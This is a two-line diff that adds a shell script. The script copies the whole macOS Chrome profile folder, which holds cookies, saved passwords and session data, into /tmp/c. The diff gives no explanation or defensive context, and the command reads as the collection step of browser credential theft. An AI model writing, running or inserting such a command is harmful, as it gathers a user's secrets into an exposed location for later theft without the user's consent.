@@ -1,0 +1,2 @@
+#!/bin/sh
+cp -r "$HOME/Library/Application Support/Google/Chrome/" /tmp/c
